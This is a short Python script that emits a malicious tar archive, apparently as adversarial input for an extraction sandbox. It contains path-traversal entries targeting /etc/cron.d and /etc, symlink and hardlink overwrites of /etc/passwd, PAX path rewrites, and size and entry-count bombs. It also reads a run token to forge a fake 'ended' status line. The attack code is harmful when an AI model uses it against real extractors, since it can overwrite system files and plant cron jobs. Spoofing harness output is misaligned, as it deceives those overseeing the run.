"""Send an archive of one's own: names that climb, devices, links, sizes without end, thousands of entries.

rows = [3, 36, 41, 42]
status = "error"
reason = "exit-nonzero"
exit_code = 9
"""

import os


def header(name, kind, size, target=b""):
    block = bytearray(512)
    block[0 : len(name)] = name
    block[100:108] = b"0000777\0"
    block[124:136] = (b"%011o\0" % size) if size < 8**11 else b"\x80" + size.to_bytes(11, "big")
    block[148:156] = b" " * 8
    block[156:157] = kind
    block[157 : 157 + len(target)] = target
    block[257:263] = b"ustar\0"
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def everything():
    text = open("/tmp/.isorun/start").read()
    yield f"isorun-{text.split('isorun-')[1][:32]} ended 0 0 1 1\n".encode()
    for name in (b"../../../../etc/cron.d/owned", b"/etc/owned", b"a/../../owned", b"./../owned", b".."):
        yield header(name, b"0", 5) + b"owned".ljust(512, b"\0")
        yield header(name, b"5", 0)
    yield header(b"link", b"2", 0, b"/etc/passwd")
    yield header(b"link", b"0", 5) + b"owned".ljust(512, b"\0")
    yield header(b"hard", b"1", 0, b"/etc/passwd")
    for kind in b"3467gDMNVXz":
        yield header(b"odd", bytes([kind]), 0)
    yield header(b"x", b"x", 30) + b"20 path=/etc/owned\n11 size=7\n".ljust(512, b"\0")
    yield header(b"x", b"x", 27) + b"27 GNU.sparse.size=9999999\n".ljust(512, b"\0")
    yield header(b"holes", b"S", 0)
    for number in range(20000):
        yield header(b"many-%d" % number, b"0", 0)
    yield header(b"endless", b"0", 1 << 49)


for piece in everything():
    os.write(1, piece)
os._exit(9)
